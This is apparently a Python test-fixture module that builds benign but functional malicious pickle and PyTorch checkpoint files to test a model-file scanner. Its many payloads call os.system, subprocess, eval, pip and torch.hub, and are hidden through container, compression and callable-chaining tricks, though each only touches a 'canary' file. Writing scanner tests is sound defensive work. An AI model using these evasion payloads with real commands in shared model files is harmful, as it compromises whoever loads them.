"""Files that say what loading them would run, made by hand and never loaded; and the verdicts that
they deserve.

``CASES`` maps a name to the file's suffix, its bytes and its verdict. Whatever a payload would run
leaves a file called canary in the working directory.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zlib
from typing import NamedTuple

from tests.formats.containers.zips import Member, build
from tests.formats.torch_zip import archives
from tests.formats.torch_zip.archives import storage, tensor

TOUCH = "touch canary"
WRITE = "open('canary','w')"


class Case(NamedTuple):
    suffix: str
    data: bytes
    verdict: str


text = archives.text  # BINUNICODE


def short(value: str) -> bytes:
    """SHORT_BINUNICODE."""
    return b"\x8c" + bytes([len(value)]) + value.encode()


def raw(data: bytes) -> bytes:
    """BINBYTES."""
    return b"B" + struct.pack("<I", len(data)) + data


def name(dotted: str) -> bytes:
    """GLOBAL; the last dot divides."""
    module, _, inner = dotted.rpartition(".")
    return f"c{module}\n{inner}\n".encode()


def call(dotted: str, *args: bytes) -> bytes:
    """REDUCE of a name, its value left on the stack."""
    return name(dotted) + b"(" + b"".join(args) + b"tR"


def pickle2(body: bytes) -> bytes:
    return b"\x80\x02" + body + b"."


def pickle4(body: bytes) -> bytes:
    return b"\x80\x04" + body + b"."


SYSTEM = call("os.system", text(TOUCH))
EVIL = pickle2(SYSTEM)
ROT13 = text("rot13")
LATIN = text(EVIL.decode("latin-1"))
PLAIN = pickle2(b"}" + text("a") + b"K\x01s")


def archive(data: bytes, *more: Member, **options: object) -> bytes:
    """Return what torch.save writes, around any pickle."""
    members = (Member("archive/data.pkl", data), *more, Member("archive/version", b"3\n"))
    return build(*members, **options)  # type: ignore[arg-type]


def tar(**members: bytes) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as file:
        for member, data in members.items():
            info = tarfile.TarInfo(member)
            info.size = len(data)
            file.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def npy(data: bytes) -> bytes:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n"
    return b"\x93NUMPY\1\0" + struct.pack("<H", len(header)) + header + data


def legacy(*pickles: bytes, storages: bytes = b"") -> bytes:
    """Before 1.6: the magic number, the version, the system, the object, the keys."""
    magic = b"\x80\x02\x8a\x0a" + (0x1950A86A20F9469CFC6C).to_bytes(10, "little") + b"."
    head = (magic, pickle2(b"M\xe9\x03"), pickle2(b"}"))
    return b"".join((*head, *pickles)) + storages


# An instance gets os.system for its own __setstate__, which the next BUILD calls.
_HOOK = pickle2(
    name("collections.Counter")
    + b")\x81}"
    + text("__setstate__")
    + name("os.system")
    + b"sb"
    + text(TOUCH)
    + b"b"
)
_PARTIAL = call("functools.partial", name("os.system"), text(TOUCH))
_NAMES = short("os") + b"\x94" + short("system") + b"\x9400h\0h\1\x93"
_MEMO = b"\x80\x04" + _NAMES + short(TOUCH) + b"\x85R."
_CRC = {"crc": 0x12345678}

# Calls, in every way that a pickle can make one.
CALLS = {
    "reduce": EVIL,
    "protocol0": b"cos\nsystem\n(V" + TOUCH.encode() + b"\ntR.",
    "protocol0-posix": b"cposix\nsystem\n(S'" + TOUCH.encode() + b"'\ntR.",
    "behind-a-number": b"I1\n0" + SYSTEM + b".",
    "behind-none": b"N" + SYSTEM + b"0.",
    "inst": b"(S'" + TOUCH.encode() + b"'\nios\nsystem\n.",
    "obj": pickle2(b"(" + name("os.system") + text(TOUCH) + b"o"),
    "newobj": pickle2(name("subprocess.Popen") + text(TOUCH) + b"\x85\x81"),
    "newobj-ex": pickle4(name("subprocess.Popen") + text(TOUCH) + b"\x85}" + text("shell") + b"\x88s\x92"),
    "setstate": _HOOK,
    "stack-global": pickle4(short("os") + short("system") + b"\x93" + short(TOUCH) + b"\x85R"),
    "memo-names": _MEMO,
    "popped": pickle2(SYSTEM + b"0N"),
    "pop-mark": pickle2(b"((" + name("os.system") + text(TOUCH) + b"o1N"),
    "eval": pickle2(call("builtins.eval", text(WRITE))),
    "exec-python2": pickle2(call("__builtin__.eval", text(WRITE))),
    "getattr-chain": pickle2(call("builtins.getattr", call("builtins.__import__", text("os")), text("system"))
                             + text(TOUCH) + b"\x85R"),
    "getattr-module": pickle2(call("builtins.getattr", name("pathlib.os"), text("system")) + text(TOUCH) + b"\x85R"),
    "dotted": pickle4(short("pathlib") + short("os.system") + b"\x93" + short(TOUCH) + b"\x85R"),
    "attrgetter": pickle2(call("operator.attrgetter", text("system")) + name("sys.modules") + b"\x85R"),
    "methodcaller": pickle2(call("operator.methodcaller", text("system"), text(TOUCH)) + name("os.path") + b"\x85R"),
    "partial": pickle2(_PARTIAL + b")R"),
    "import-module": pickle2(call("importlib.import_module", text("antigravity"))),
    "run-path": pickle2(call("runpy.run_path", text("canary.py"))),
    "pip": pickle2(call("pip.main", b"](" + text("install") + text("evil") + b"e")),
    "hub": pickle2(call("torch.hub.load", text("evil/repo"), text("model"))),
    "torch-load": pickle2(call("torch.load", text("other.pth"))),
    "runstring": pickle2(call("numpy.testing._private.utils.runstring", text(WRITE), b"}")),
    "compile": pickle2(call("numpy.f2py.compile", text("x"))),
    "timeit": pickle2(call("timeit.timeit", text(WRITE))),
    "third-party": pickle2(call("paramiko.proxy.ProxyCommand", text(TOUCH))),
    "cprofile": pickle2(call("cProfile.run", text(WRITE))),
    "map": pickle2(call("builtins.list", call("builtins.map", name("os.system"), b"](" + text(TOUCH) + b"e"))),
    "from-type": pickle2(call("torch._tensor._rebuild_from_type_v2", name("os.system"), name("torch.Tensor"),
                              text(TOUCH) + b"\x85", b"}")),
    "newobj-function": pickle2(call("copyreg.__newobj__", name("subprocess.Popen"), text(TOUCH))),
    "load-from-bytes": pickle2(call("torch.storage._load_from_bytes", raw(archive(EVIL)))),
    "loads": pickle2(call("_pickle.loads", raw(EVIL))),
    "modules": pickle2(name("sys.modules") + text("json") + name("os.path") + b"s"),
    "environ": pickle2(name("os.environ") + text("LD_PRELOAD") + text("./canary.so") + b"s"),
    "persistent-id": pickle2(SYSTEM + b"Q"),
    "setstate-computed": pickle2(name("mine.Net") + b")\x81}" + call("_codecs.encode", text("__frgfgngr__"), ROT13)
                                 + name("mine.run") + b"sb" + text(TOUCH) + b"b"),
    "setstate-ordered": pickle2(name("mine.Net") + b")\x81" + call("collections.OrderedDict") + text("__setstate__")
                                + name("mine.run") + b"sb" + text(TOUCH) + b"b"),
    "add-extension": pickle2(call("copyreg.add_extension", text("os"), text("system"), b"K\x01") + b"\x82\x01"),
    "broken-after": b"\x80\x02" + SYSTEM + b"\xff\xff",
    "cut-after": b"\x80\x02" + SYSTEM,
    "underflow-after": b"\x80\x02" + SYSTEM + b"0000000.",
}  # fmt: skip

# copyreg._reconstructor with another base than object, another state than None, or of a class of
# an installed package: not what NEWOBJ would do.
_NET, _OBJECT = name("mine.Net"), name("__builtin__.object")
RECONSTRUCTED = {
    "list": (_NET, name("__builtin__.list"), b"N"),
    "list-state": (_NET, name("__builtin__.list"), b"](K\1K\2e"),
    "dict-state": (_NET, name("__builtin__.dict"), b"}" + text("a") + b"K\1s"),
    "text": (_NET, name("__builtin__.str"), text("a")),
    "own-base": (_NET, name("mine.Base"), b"N"),
    "own-base-state": (_NET, name("mine.Base"), text(TOUCH)),
    "object-state": (_NET, _OBJECT, b"}"),
    "object-text": (_NET, _OBJECT, text("a")),
    "package": (name("torch.utils.data.datapipes.datapipe.IterDataPipe"), _OBJECT, b"N"),
}  # fmt: skip

# What no machine would come through, or two machines would come through differently.
UNCLEAR = {
    "extension": pickle2(b"\x82\x01"),
    "computed-name": pickle4(short("os") + call("builtins.bytes", raw(b"system")) + b"\x93"),
    "computed-module": pickle4(name("collections.Counter") + b")R" + short("system") + b"\x93"),
    "missing-memo": b"\x80\x04" + short("os") + b"h\x09\x93.",
    "number-as-module": pickle4(b"K\x2a" + short("system") + b"\x93"),
    "uncalled": pickle2(b"}" + text("activation") + name("os.system") + b"s"),
    "memory": pickle2(call("builtins.bytearray", b"\x8a\x06\x00\x00\x00\x00\x00\x01")),
    "storage-size": pickle2(call("torch.FloatStorage", b"J\xff\xff\xff\x7f")),
    "frame-in-frame": b"\x80\x04\x95" + struct.pack("<Q", 12) + b"\x95" + struct.pack("<Q", 2) + b"N.",
    "buffer": b"\x80\x05\x97.",
    "protocol-6": b"\x80\x06N.",
    **{f"reconstructor-{key}": pickle2(call("copyreg._reconstructor", *args))
       for key, args in RECONSTRUCTED.items()},
    "cut": PLAIN[:-3],
}  # fmt: skip


def built(target: bytes, *pairs: bytes) -> bytes:
    """BUILD with a dict of these, set one by one."""
    items = b"".join(
        key + value + b"s" for key, value in zip(pairs[0::2], pairs[1::2], strict=True)
    )
    return target + b"}" + items + b"b"


def dotted(module: str, inner: str) -> bytes:
    """STACK_GLOBAL with a name that reaches through its module."""
    return short(module) + short(inner) + b"\x93"


_BAG = name("types.SimpleNamespace") + b")R"
_LIST = b"(" + text(TOUCH)
_REACH = call("functools.partial", name("functools.reduce"), name("operator.call"),
              b"(" + call("functools.partial", call("operator.methodcaller", text("system"), text(TOUCH)))
              + name("random._os") + b"l")  # fmt: skip
_KEYS = built(_BAG, text("keys"), _REACH)
_RUN = name("torch.utils.collect_env.run")
_HOOKS = {
    hook: built(_BAG, text(hook), name("os.system"))
    for hook in ("__setstate__", "append", "extend")
}
_WRAPPER = name("torch.utils.data.datapipes.datapipe._IterDataPipeSerializationWrapper") + b")\x81("
_PAIRS = {
    hook: call("builtins.dict", b"((" + text(hook) + _RUN + b"tl")
    for hook in ("__setstate__", "append")
}
_CODE = text("__import__('os').system('touch canary')")


def _adam(groups: bytes) -> bytes:
    """An Adam with these groups of parameters: its __setstate__ calls setdefault of each."""
    return built(name("torch.optim.adam.Adam") + b")\x81", text("state"), b"}", text("defaults"), b"}",
                 text("param_groups"), groups)  # fmt: skip


_TOUCH = call("functools.partial", name("os.system"), text(TOUCH))
_SETDEFAULT = built(_BAG, text("setdefault"), _TOUCH)

# Values that run code by what harmless callables do with them. Each is the body of a pickle that
# leaves one value.
STANDARD = {
    "dict-keys": call("builtins.dict", _KEYS),
    "dict-keys-partial": call("builtins.dict", built(_BAG, text("keys"), call("functools.partial", name("os.system"),
                                                                             text(TOUCH)))),
    "ordered-keys": call("collections.OrderedDict", _KEYS),
    "default-keys": call("collections.defaultdict", b"N", _KEYS),
    "hook-setstate": _HOOKS["__setstate__"] + text(TOUCH) + b"b",
    "hook-append": _HOOKS["append"] + text(TOUCH) + b"a",
    "hook-namespace": built(name("argparse.Namespace") + b")R", text("__setstate__"), name("os.system"))
                      + text(TOUCH) + b"b",
}  # fmt: skip
DISGUISED = {
    **STANDARD,
    "hook-extend": _HOOKS["extend"] + b"(" + text(TOUCH) + text("x") + b"e",
    "dict-keys-torch": call("builtins.dict", built(_BAG, text("keys"), call("functools.partial", _RUN, text(TOUCH)))),
    "setstate-of-a-call": _BAG + _PAIRS["__setstate__"] + b"b" + text(TOUCH) + b"b",
    "append-of-a-call": _BAG + _PAIRS["append"] + b"b" + text(TOUCH) + b"a",
    "list-of-a-pipe": call("builtins.list", built(
        name("torch.utils.data.datapipes.iter.callable.MapperIterDataPipe") + b")\x81", text("datapipe"), _LIST + b"l",
        text("fn"), _RUN, text("input_col"), b"N", text("output_col"), b"N")),
    "wrapper": _WRAPPER + raw(EVIL) + b"\x89tb",
    "wrapper-hidden": _WRAPPER + call("builtins.bytes", b"(" + b"".join(b"K%c" % each for each in EVIL) + b"l")
                      + b"\x89tb",
    "uuid-replace": call("uuid.UUID", built(_BAG, text("replace"), call("functools.partial", _RUN))),
    "source-to-code": call("builtins.dict", built(_BAG, text("keys"), dotted("torch.jit._pickle",
                           "build_intlist.__class__") + b"(" + dotted("torch.jit._pickle", "__loader__.source_to_code")
                           + b"(" + _CODE + text("x") + b"tR}tR")),
    "set-data": dotted("torch.jit._pickle", "__loader__.set_data") + b"(" + text("canary") + raw(b"x") + b"tR",
    "sympy-new": name("sympy.functions.elementary.trigonometric.sin") + b"(" + _CODE + b"t\x81",
    "sympify": call("sympy.core.sympify.sympify", _CODE),
    "yaml": call("yaml.unsafe_load", text("!!python/object/apply:os.system ['touch canary']")),
    "spawn": call("setuptools._distutils.spawn.spawn", b"(" + text("touch") + text("canary") + b"l"),
    "re-exported": call("fsspec.utils.pathlib"),
    "load-from-bytes-kept": call("functools.partial", name("torch.storage._load_from_bytes"), raw(b"x")),
    "adam-factory": _adam(b"]" + call("collections.defaultdict", _TOUCH) + b"a"),
    "adam-namespace": _adam(b"]" + _SETDEFAULT + b"a"),
    "adam-deque": _adam(call("collections.deque", b"]" + _SETDEFAULT + b"a")),
    "adam-list": _adam(call("builtins.list", b"]" + _SETDEFAULT + b"a")),
    "adam-own-list": _adam(b"]" + name("mine.Groups") + b")\x81a"),
    "callable-of-own": built(name("mine.Net") + b")\x81", text("run"), name("theirs.tools.run")),
    "callable-alone": name("mine.tools.run"),
    "class-alone": name("mine.nets.Net"),
    "class-of-torch": name("torch.optim.adam.Adam"),
    "method": call("builtins.getattr", name("mine.nets.Net"), text("run")),
    "partial-of-print": call("functools.partial", name("builtins.print"), text("x")),
    "count": built(name("torch.nn.modules.linear.Identity") + b")\x81", text("_buffers"),
                   call("itertools.count")),
    "layers-of-an-lstm": built(name("torch.nn.modules.rnn.LSTM") + b")\x81", text("_all_weights"),
                               b"]](K\0ea", text("num_layers"), b"\x8a\x06\0\0\0\0\0\1"),
    "format-of-random": built(name("random.Random") + b")R", text("x"), b"K\1")
                        + b"(K\2](" + text("%9000000000d") + b"eNtb",
    "object-as-key": b"}" + name("torch.distributed.device_mesh.DeviceMesh") + b")\x81K\1s",
    "class-through-slots": name("mine.Net") + b")\x81N}" + text("__class__") + name("subprocess.Popen") + b"s\x86b",
}  # fmt: skip


def beside_a_tensor(body: bytes) -> Case:
    """A checkpoint of one tensor, and a value that some pickle leaves."""
    entry = text("w") + tensor(storage(numel=2), (2,)) + b"s"
    data = b"\x80\4}" + entry + text("extra") + body + b"s."
    return Case(".pth", archive(data, Member("archive/data/0", b"\0\0\x80?" * 2)), "")


def cases() -> dict[str, Case]:
    found = {f"call-{each}": Case(".pkl", data, "code") for each, data in CALLS.items()}
    found |= {f"unclear-{each}": Case(".pkl", data, "unknown") for each, data in UNCLEAR.items()}
    return found | _places() | _plain()


def _places() -> dict[str, Case]:
    """One call, in every place where some loader would find it."""
    cut = archive(PLAIN, Member("archive/data/0", EVIL))
    places = {
        "zip": (".pth", archive(EVIL)),
        "zip-deflated": (".pth", build(Member("archive/data.pkl", EVIL, deflated=True))),
        "zip-crc": (".pth", archive(PLAIN, Member("archive/x.pkl", EVIL, central=_CRC, local=_CRC))),
        "zip-flag": (".pth", archive(PLAIN, Member("archive/x.pkl", EVIL, central={"flags": 1}))),
        "zip-names": (".pth", build(Member("archive/data.pkl", EVIL, central={"name": b"archive/datb.pkl"}))),
        "zip-not-loaded": (".pth", archive(PLAIN, Member("archive/data.old", EVIL))),
        "zip-in-storage": (".pth", archive(PLAIN, Member("archive/data/0", EVIL))),
        "zip-in-zip": (".pth", archive(PLAIN, Member("archive/inner.bin", archive(EVIL)))),
        "zip-wrong-suffix": (".txt", build(Member("notes.txt", EVIL))),
        "zip-duplicate": (".pth", build(Member("a/data.pkl", PLAIN), Member("a/data.pkl", EVIL))),
        "zip-without-directory": (".pth", cut[: cut.index(b"PK\1\2")]),
        "zip-unlisted": (".pth", archive(PLAIN, gap=Member("archive/extra.pkl", EVIL).head() + EVIL)),
        "zip-behind-7z": (".pth", b"7z\xbc\xaf\x27\x1c" + bytes(20) + archive(EVIL)),
        "zip-behind-pickle": (".pkl", PLAIN + archive(EVIL)),
        "zip-behind-text": (".txt", b"hello\n" + archive(EVIL)),
        "legacy": (".pth", legacy(EVIL, pickle2(b"]"))),
        "legacy-keys": (".pth", legacy(PLAIN, EVIL)),
        "legacy-magic": (".pth", pickle2(call("builtins.eval", text(WRITE))) + pickle2(b"M\xe9\x03")),
        "second-pickle": (".pkl", PLAIN + EVIL),
        "tar": (".tar", tar(pickle=EVIL, storages=pickle2(b"K\0"), tensors=pickle2(b"K\0"))),
        "tar-storages": (".tar", tar(pickle=PLAIN, storages=pickle2(b"K\1") + EVIL, tensors=pickle2(b"K\0"))),
        "tar-any": (".tar", tar(anything=EVIL)),
        "gzip": (".pkl.gz", gzip.compress(EVIL)),
        "bzip2": (".pkl.bz2", bz2.compress(EVIL)),
        "xz": (".pkl.xz", lzma.compress(EVIL)),
        "zlib": (".joblib", zlib.compress(EVIL)),
        "gzip-in-tar": (".tar", tar(data=gzip.compress(EVIL))),
        "npy": (".npy", npy(EVIL)),
        "npz": (".npz", build(Member("a.npy", npy(EVIL)))),
        "bytes": (".pkl", pickle4(raw(EVIL))),
        "bytes-python2": (".pth", archive(pickle2(call("_codecs.encode", LATIN, text("latin1"))))),
        "bytes-broken": (".pkl", pickle4(raw(b"N" + SYSTEM + b"\xff"))),
        "bytes-in-bytes": (".pkl", pickle4(raw(pickle4(raw(EVIL))))),
        "no-suffix": ("", EVIL),
        "image-suffix": (".png", EVIL),
    }  # fmt: skip
    return {f"place-{each}": Case(suffix, data, "code") for each, (suffix, data) in places.items()}


def _plain() -> dict[str, Case]:
    """Return the cases that are harmless."""
    thing = name("mine.nets.Net") + b")\x81}" + text("depth") + b"K\x03sb"
    reconstructed = b"ccopyreg\n_reconstructor\n(cmine.nets\nNet\nc__builtin__\nobject\nNtR."
    nested = call("builtins.getattr", name("mine.nets.Net"), text("Inner")) + b")\x81"
    plain = {
        "dict": (".pth", archive(PLAIN), "safe"),
        "ordered": (".pth", archive(pickle2(name("collections.OrderedDict") + b")R")), "safe"),
        "size": (".pth", archive(pickle2(call("torch.Size", b"](K\1K\2e"))), "safe"),
        "set": (".pth", archive(pickle2(call("__builtin__.set", b"](K\1K\2e"))), "safe"),
        "legacy": (".pth", legacy(PLAIN, pickle2(b"]"), storages=EVIL), "safe"),
        "pickle": (".pkl", PLAIN, "harmless"),
        "protocol4": (".pth", archive(pickle4(b"}" + short("a") + b"K\1s")), "harmless"),
        "text-string": (".pkl", pickle2(text("cos\nsystem\n")), "harmless"),
        "path": (".pth", archive(pickle2(call("pathlib.PosixPath", text("/tmp")))), "harmless"),
        "object": (".pth", archive(pickle2(thing)), "classes"),
        "nested-class": (".pkl", pickle2(nested), "classes"),
        "old-object": (".pkl", reconstructed, "classes"),
        "readme": (".md", b"cats and dogs\nare read, not run.\n", "none"),
    }  # fmt: skip
    return {f"plain-{each}": Case(*case) for each, case in plain.items()}


CASES = cases()
